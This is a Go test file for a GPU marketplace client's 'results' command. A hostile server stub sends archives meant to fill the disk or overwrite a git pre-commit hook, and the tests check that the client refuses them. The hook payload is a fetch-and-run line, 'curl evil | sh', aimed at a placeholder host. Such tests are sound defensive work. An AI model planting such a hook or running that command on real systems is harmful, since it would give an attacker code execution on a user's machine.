package main

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bourse/bourse/contract"
	"github.com/bourse/bourse/protocol"
	"github.com/bourse/bourse/scenario"
)

// hostile is a GPU server played over the raw protocol: it accepts every
// offer, reports each start as the start's reply says (declaring what
// Started holds), and sends whatever output the test gives it on its own
// subjects.
type hostile struct {
	t      *testing.T
	id     string
	js     jetstream.JetStream
	starts chan string
}

func startHostile(t *testing.T, url, id string, started protocol.Started) *hostile {
	t.Helper()
	nc, err := nats.Connect(url, nats.CustomInboxPrefix(protocol.InboxPrefix(id)))
	require.NoError(t, err)
	t.Cleanup(nc.Close)
	js, err := jetstream.New(nc)
	require.NoError(t, err)
	h := &hostile{t: t, id: id, js: js, starts: make(chan string, 8)}
	sub := func(verb string, f nats.MsgHandler) {
		_, err := nc.Subscribe(protocol.DeliverSubject(id, verb), f)
		require.NoError(t, err)
	}
	sub(protocol.DeliverOffer, func(m *nats.Msg) {
		body, _ := json.Marshal(protocol.Decision{Accept: true, ClaimFor: contract.Duration(5 * time.Second)})
		_ = m.Respond(body)
	})
	sub(protocol.DeliverStart, func(m *nats.Msg) {
		var st protocol.Start
		if json.Unmarshal(m.Data, &st) != nil {
			return
		}
		reply := started
		reply.Contract, reply.GPUs, reply.At = st.Contract.ID, []int{0}, time.Now().UTC()
		body, _ := json.Marshal(reply)
		_ = m.Respond(body)
		h.starts <- st.Contract.ID
	})
	sub(protocol.DeliverCancel, func(*nats.Msg) {})
	require.NoError(t, nc.Flush())
	// It says it runs a program, so that the exchange makes its output
	// stream at the hello (a server that runs none has none).
	hello, _ := json.Marshal(protocol.Hello{Currency: "CRED", GPUs: []contract.GPU{{Index: 0, Model: "H100", MemoryMiB: 81920}}, Free: 1, At: time.Now().UTC(),
		Runs: &protocol.Runs{Runner: protocol.RunnerProcess, Meter: contract.MeterFullUse, Programs: []string{"/bin/true"}}})
	msg, err := nc.Request(protocol.ServerSubject(id, protocol.VerbHello), hello, 5*time.Second)
	require.NoError(t, err)
	require.Empty(t, msg.Header.Get("Nats-Service-Error"), string(msg.Data))
	return h
}

// results sends chunks of a results archive, each at its offset, then
// the archive's end.
func (h *hostile) results(contractID string, end protocol.OutputEnd, chunks map[int64][]byte) {
	h.t.Helper()
	offsets := make([]int64, 0, len(chunks))
	for off := range chunks {
		offsets = append(offsets, off)
	}
	for i := range offsets { // in order of offset
		for j := i + 1; j < len(offsets); j++ {
			if offsets[j] < offsets[i] {
				offsets[i], offsets[j] = offsets[j], offsets[i]
			}
		}
	}
	publish := func(stream string, offset int64, data []byte) {
		msg := nats.NewMsg(protocol.OutputSubject(h.id, contractID, protocol.PartResults))
		msg.Data = data
		msg.Header.Set(protocol.StreamHeader, stream)
		msg.Header.Set(protocol.OffsetHeader, strconv.FormatInt(offset, 10))
		_, err := h.js.PublishMsg(context.Background(), msg)
		require.NoError(h.t, err)
	}
	for _, off := range offsets {
		publish(protocol.StreamResults, off, chunks[off])
	}
	body, _ := json.Marshal(end)
	publish(protocol.StreamEnd, 0, body)
}

// contract makes one of ada's offers to the hostile server, and waits for
// its start.
func (h *hostile) contract(b *bidMarket) string {
	h.t.Helper()
	k := b.offerJSON("ada", "--server", h.id, "--gpus", "1", "--model", "H100", "--price", "0.01", "--time-limit", "1m", "--command", "/bin/true")
	select {
	case id := <-h.starts:
		require.Equal(h.t, k.ID, id)
	case <-time.After(10 * time.Second):
		h.t.Fatalf("%s never started", k.ID)
	}
	// It ends the job when the test does, so that the market closes at
	// once rather than waiting to judge the server lost.
	h.t.Cleanup(func() {
		r := contract.Reading{Contract: k.ID, Seq: 1, U: decimal.Zero, T: contract.Duration(time.Millisecond), S: decimal.NewFromInt(1),
			At: time.Now().UTC(), Final: true, Reason: contract.ReasonCompleted}
		body, _ := json.Marshal(r)
		_, _ = h.js.Publish(context.Background(), protocol.UsageSubject(h.id, k.ID), body, jetstream.WithMsgID(protocol.MsgID(h.id, r)))
		b.waitState("ada", k.ID, contract.StateSettled)
	})
	return k.ID
}

// tarOf is a tar archive of regular files, name → body.
func tarOf(t *testing.T, files ...[2]string) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, f := range files {
		require.NoError(t, tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: f[0], Mode: 0o755, Size: int64(len(f[1]))}))
		_, err := tw.Write([]byte(f[1]))
		require.NoError(t, err)
	}
	require.NoError(t, tw.Close())
	return b.Bytes()
}

// largest is the size of the largest file under dir.
func largest(t *testing.T, dir string) int64 {
	t.Helper()
	var most int64
	require.NoError(t, filepath.WalkDir(dir, func(_ string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		fi, err := d.Info()
		if err == nil && fi.Size() > most {
			most = fi.Size()
		}
		return err
	}))
	return most
}

// TestResultsCannotFillTheDisk: a server sends 2 KiB, a tar header that
// claims a 1 GiB file and a chunk at offset 1 GiB. bourse bid results
// writes nothing of it, says why and exits non-zero: chunks must be
// contiguous and within the results cap.
func TestResultsCannotFillTheDisk(t *testing.T) {
	b := startBidMarket(t, []scenario.ServerSpec{}...)
	evil := startHostile(t, b.m.URL(), "evil", protocol.Started{})
	id := evil.contract(b)

	var header bytes.Buffer
	tw := tar.NewWriter(&header)
	require.NoError(t, tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "big.bin", Mode: 0o644, Size: 1 << 30}))
	chunk := append(header.Bytes(), bytes.Repeat([]byte("x"), 1024)...)
	evil.results(id, protocol.OutputEnd{Results: 1<<30 + 1}, map[int64][]byte{0: chunk, 1 << 30: []byte("x")})

	dir := filepath.Join(t.TempDir(), "out")
	out, errOut, code := b.bid("ada", "results", id, "-o", dir)
	assert.NotEqual(t, 0, code, "a 1 GiB claim taken: %s", out)
	if _, err := os.Stat(dir); err == nil {
		assert.Less(t, largest(t, dir), int64(1<<20), "a server's 2 KiB became a large file in the client's folder")
	}
	assert.Contains(t, errOut, "results")
}

// TestResultsKeepTheClientsFiles: an archive that names a file already in
// the folder (an executable git hook) replaces nothing unless the client
// asks with --force, and then the file is the server's plain data, not an
// executable; the command lists what it wrote.
func TestResultsKeepTheClientsFiles(t *testing.T) {
	b := startBidMarket(t, []scenario.ServerSpec{}...)
	evil := startHostile(t, b.m.URL(), "evil", protocol.Started{})
	id := evil.contract(b)
	archive := tarOf(t, [2]string{"notes.txt", "hello\n"}, [2]string{".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"})
	evil.results(id, protocol.OutputEnd{Results: int64(len(archive))}, map[int64][]byte{0: archive})

	dir := t.TempDir()
	hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
	require.NoError(t, os.MkdirAll(filepath.Dir(hook), 0o755))
	mine := "#!/bin/sh\nexec make lint\n"
	require.NoError(t, os.WriteFile(hook, []byte(mine), 0o755))

	out, errOut, code := b.bid("ada", "results", id, "-o", dir)
	assert.Equal(t, exitFailure, code, "%s%s", out, errOut)
	assert.Contains(t, errOut, ".git/hooks/pre-commit")
	assert.Contains(t, errOut, "--force")
	got, err := os.ReadFile(hook)
	require.NoError(t, err)
	assert.Equal(t, mine, string(got), "the client's hook was replaced")
	_, err = os.Stat(filepath.Join(dir, "notes.txt"))
	assert.True(t, os.IsNotExist(err), "a refused archive was written in part")

	// DIR as the help writes it: an argument, or -o.
	out, errOut, code = b.bid("ada", "results", id, dir, "--force")
	require.Equal(t, 0, code, errOut)
	assert.Contains(t, out, "notes.txt\n.git/hooks/pre-commit\n2 files in "+dir)
	got, err = os.ReadFile(hook)
	require.NoError(t, err)
	assert.True(t, strings.Contains(string(got), "curl evil"), "--force replaces")
	fi, err := os.Stat(hook)
	require.NoError(t, err)
	assert.Zero(t, fi.Mode()&0o111, "a replaced file kept its executable bits: %v", fi.Mode())
}
